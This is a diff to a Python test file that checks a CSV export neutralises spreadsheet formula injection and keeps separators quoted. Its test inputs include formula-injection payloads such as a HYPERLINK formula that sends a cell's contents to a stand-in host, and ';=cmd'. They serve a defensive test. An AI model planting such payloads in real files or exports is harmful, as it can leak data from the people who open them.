@@ -40,7 +40,7 @@ def fill(engine: Engine, n: int) -> None:
 
 def read(path: Path, fmt: ExportFormat) -> list[dict[str, object]]:
     if fmt == ExportFormat.CSV:
-        with path.open(encoding="utf-8") as handle:
+        with path.open(encoding="utf-8", newline="") as handle:
             return list(csv.DictReader(handle))
     if fmt == ExportFormat.JSONL:
         return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
@@ -102,7 +102,8 @@ def test_a_failed_export_leaves_no_file(
 
 
 @pytest.mark.parametrize("typed", ['=HYPERLINK("http://x.example/?"&A1,"click") fee', "+1+1",
-                                   "-2+3", "@SUM(A1)", "\t=1"])  # fmt: skip
+                                   "-2+3", "@SUM(A1)", "\t=1", "\r=1", ' =HYPERLINK("x")',
+                                   "\u00a0 +1", ";=cmd", " ; -2+3", ",@SUM(A1)"])  # fmt: skip
 def test_a_question_a_spreadsheet_would_run_is_text_in_the_csv(
     engine: Engine, tmp_path: Path, typed: str
 ) -> None:
@@ -117,6 +118,23 @@ def test_a_question_a_spreadsheet_would_run_is_text_in_the_csv(
     assert row["question"] == "'" + read(tmp_path / "e.jsonl", ExportFormat.JSONL)[0]["question"]
     assert str(row["question"]).startswith("'")
     assert row["channel"] == "chat" and row["status"] == "no_answer"  # plain cells as they were
+
+
+def test_a_separator_inside_a_text_cell_never_starts_a_cell_and_numbers_stay_numbers(
+    engine: Engine, tmp_path: Path
+) -> None:
+    """Where ``;`` is the locale's separator, ``fees;=cmd`` left bare would open as a cell
+    ``=cmd``: every text cell is quoted; a number is written bare, so ``-5`` stays a number."""
+    log = AnswerLog(engine)
+    log.record(LoggedAnswer(kind="answer", question="fees;=cmd", latency_ms=-5.0, channel="chat",
+                            status="no_answer", at=T0))  # fmt: skip
+    log.flush()
+    with session_scope(engine) as session:
+        export_events(session, tmp_path / "e.csv", ExportFormat.CSV, since=None)
+    text = (tmp_path / "e.csv").read_text(encoding="utf-8")
+    assert ',"fees;=cmd",' in text and ",-5.0," in text
+    (row,) = read(tmp_path / "e.csv", ExportFormat.CSV)
+    assert (row["question"], row["latency_ms"], row["version"]) == ("fees;=cmd", "-5.0", "")
 
 
 @pytest.mark.parametrize("kind", ["symlink", "fifo", "folder", "dash"])
